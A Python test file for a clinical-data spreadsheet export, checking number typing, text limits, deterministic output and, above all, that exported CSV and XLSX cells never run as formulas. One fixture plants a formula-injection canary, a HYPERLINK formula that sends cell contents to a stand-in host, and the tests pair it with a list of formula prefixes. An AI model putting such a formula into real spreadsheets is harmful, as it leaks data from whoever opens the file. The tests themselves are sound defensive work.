"""A workbook holds numbers as numbers and texts as texts, and runs nothing."""

import csv
import re
import shutil
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from model.cells import neutralise
from model.exchange import spreadsheet
from model.exchange.export import export
from model.exchange.export_options import ExportOptions
from model.exchange.spreadsheet import Workbook
from model.exchange.tidy.course_tables import LABS
from model.exchange.tidy.patient_tables import PATHOLOGY
from model.store.casebook import Casebook
from tests.model.exchange.canaries import planted

FORMULAS = ("=", "+", "-", "@", "\t=", "\r=")


def written(folder: Path, rows: Sequence[Sequence[str]]) -> list[list[Any]]:
    """The cells of a workbook with laboratory results, as openpyxl reads them."""
    folder.mkdir(exist_ok=True)
    book = Workbook(folder)
    book.put(LABS, rows)
    book.finish()
    book.close()
    sheet = openpyxl.load_workbook(folder / spreadsheet.FILE)["labs"]
    return [list(row) for row in sheet.iter_rows(min_row=2)]


def row(**cells: str) -> list[str]:
    return [cells.get(name, "") for name in LABS.header]


def values(cells: list[Any]) -> dict[str, Any]:
    return {
        name: cell.value
        for name, cell in zip(LABS.header, cells, strict=True)
        if cell.value is not None
    }


def test_numbers_are_numbers_with_the_digits_that_were_written(tmp_path: Path) -> None:
    cells = written(
        tmp_path,
        [
            row(patient_id="P-1", date="2024-03-07", value="0.10", lln="4", uln="1E+3"),
            row(value="<5", lln="12345678901234567890", comment="12", fasting="Y"),
        ],
    )
    assert values(cells[0]) == {
        "patient_id": "P-1",
        "date": "2024-03-07",
        "value": 0.1,
        "lln": 4,
        "uln": 1000,
    }
    formats = {cell.value: cell.number_format for cell in cells[0] if cell.value is not None}
    assert (formats[0.1], formats[4]) == ("0.00", "General")
    assert values(cells[1]) == {
        "value": "<5",
        "lln": "12345678901234567890",
        "comment": "12",
        "fasting": "Y",
    }


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "'"])
def test_a_text_that_begins_as_a_formula_is_a_text_as_it_was_written(
    tmp_path: Path, text: str
) -> None:
    ((*_, cell),) = written(tmp_path, [row(comment=neutralise(text))])
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_what_no_cell_can_hold_is_marked(tmp_path: Path) -> None:
    first, second = written(tmp_path, [row(comment="a\x00b\ufffe"), row(comment="x" * 40_000)])
    assert values(first) == {"comment": "a\ufffdb\ufffd"}
    comment = values(second)["comment"]
    assert len(comment) == spreadsheet.LONGEST_TEXT
    assert comment.endswith(spreadsheet.CUT)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    text=st.text(
        st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"),
        min_size=1,
    )
)
def test_any_text_comes_back(tmp_path: Path, text: str) -> None:
    ((*_, cell),) = written(tmp_path / "book", [row(comment=neutralise(text))])
    assert cell.value == re.sub(r"_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)


def test_the_same_tables_give_the_same_bytes(tmp_path: Path) -> None:
    for name in ("one", "two"):
        written(tmp_path / name, [row(comment="x", value="1.50")])
    one, two = ((tmp_path / name / spreadsheet.FILE).read_bytes() for name in ("one", "two"))
    assert one == two


@pytest.mark.parametrize(("place", "name"), [(0, "A"), (25, "Z"), (26, "AA"), (701, "ZZ")])
def test_columns_have_the_names_of_spreadsheets(place: int, name: str) -> None:
    assert spreadsheet.letters(place) == name


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An export as files and as a workbook, of texts that all begin as a formula does."""
    folder = tmp_path_factory.mktemp("formulas")
    path, _ = planted(folder / "planted.theralog", '=HYPERLINK("http://x.test/"&A1;"y")')
    with Casebook.open(path) as casebook:
        for form in ("csv", "xlsx"):
            export(casebook, folder / form, options=ExportOptions(file_format=form))
    return folder


def test_no_cell_of_an_export_begins_as_a_formula_does(formulas: Path) -> None:
    seen = 0
    for path in (formulas / "csv").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for line in csv.reader(file) for cell in line]
        risky = [cell for cell in cells if cell.startswith(FORMULAS)]
        assert [cell for cell in risky if not re.fullmatch(r"[+-][\d.eE+-]+", cell)] == []
        seen += sum("HYPERLINK" in cell for cell in cells)
    assert seen > 1000
    book = openpyxl.load_workbook(formulas / "xlsx" / spreadsheet.FILE)
    kinds = {cell.data_type for sheet in book for line in sheet.iter_rows() for cell in line}
    assert kinds == {"s", "n"}


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not there")
def test_libreoffice_finds_no_formula_in_any_file(formulas: Path, tmp_path: Path) -> None:
    files = [*(formulas / "csv").glob("*.csv"), formulas / "xlsx" / spreadsheet.FILE]
    profile = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    subprocess.run(
        ["soffice", profile, "--headless", "--convert-to", "fods", "--outdir", tmp_path, *files],
        check=True,
        capture_output=True,
        timeout=300,
    )
    opened = list(tmp_path.glob("*.fods"))
    assert len(opened) == len(files)
    assert sum(path.read_text("utf-8").count("HYPERLINK") for path in opened) > 2000
    assert [path.name for path in opened if "table:formula" in path.read_text("utf-8")] == []


def test_ki67_is_a_number_next_to_what_was_written(tmp_path: Path) -> None:
    tmp_path.joinpath("out").mkdir()
    book = Workbook(tmp_path / "out")
    cells = {"ki67_pct": "22.5", "ki67_written": "20-25"}
    book.put(PATHOLOGY, [[cells.get(name, "") for name in PATHOLOGY.header]])
    book.finish()
    book.close()
    sheet = openpyxl.load_workbook(tmp_path / "out" / spreadsheet.FILE)["pathology"]
    (found,) = sheet.iter_rows(min_row=2, values_only=True)
    by_name = dict(zip(PATHOLOGY.header, found, strict=True))
    assert (by_name["ki67_pct"], by_name["ki67_written"]) == (22.5, "20-25")
